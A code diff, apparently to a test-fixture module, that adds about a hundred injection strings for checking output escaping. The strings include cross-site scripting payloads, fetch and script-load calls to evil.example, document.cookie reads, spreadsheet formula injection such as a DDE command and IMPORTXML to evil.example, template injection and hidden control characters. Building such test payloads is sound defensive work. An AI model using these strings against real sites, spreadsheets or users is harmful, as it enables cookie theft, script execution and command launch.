@@ -23,6 +23,26 @@ PAYLOADS = (
     "\ud800lone",
 )
 """Escapes, line ends, controls, direction, no width, separators, HTML, links, cells, formulas, maths, surrogates."""
+_SCRIPTS = ("alert(1)", "fetch('//evil.example')", "document.cookie", "top.location='//evil.example'")
+_AROUND = (
+    "<script>{}</script>", "<SCRIPT SRC=//evil.example/{}></SCRIPT>", "<svg onload={}>", "<img src=x onerror={}>",
+    "<body onpageshow={}>", "<a href=\"javascript:{}\">x</a>", "<iframe srcdoc='<script>{}</script>'>",
+    "\"><script>{}</script>", "'><svg/onload={}>", "</title><script>{}</script>", "</text></svg><script>{}</script>",
+    "</style><script>{}</script>", "<style>@import '//evil.example/{}'</style>", "<math><mi xlink:href=\"data:,{}\">",
+    "<details open ontoggle={}>", "&lt;script&gt;{}&lt;/script&gt;", "{{{{ {} }}}}", "{{% print {} %}}",
+)  # fmt: skip
+HUNDRED = tuple(
+    dict.fromkeys(
+        (
+            *PAYLOADS[:-1],
+            *(around.format(script) for around in _AROUND for script in _SCRIPTS),
+            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
+            "# heading", "> quote", "- item", "[x](javascript:alert(1))", "![x](data:text/html,x)", "***", "`a` ``b``",
+            "<!-- gone -->", "</p><p>", "a\x00b", "\x1b]0;title\x07", "\u202edlrow", "<\u200bscript>", "%3Cscript%3E",
+        )
+    )
+)[:100]  # fmt: skip
+"""A hundred: in markup, in attributes, out of tags, templates, formulas, Markdown, escapes and hidden characters."""
 YAML_PAYLOADS = tuple(text for text in PAYLOADS if text.isprintable() or "\u202e" in text or "\u200b" in text)
 """Those that a YAML file can hold as they are, in a comment."""
 
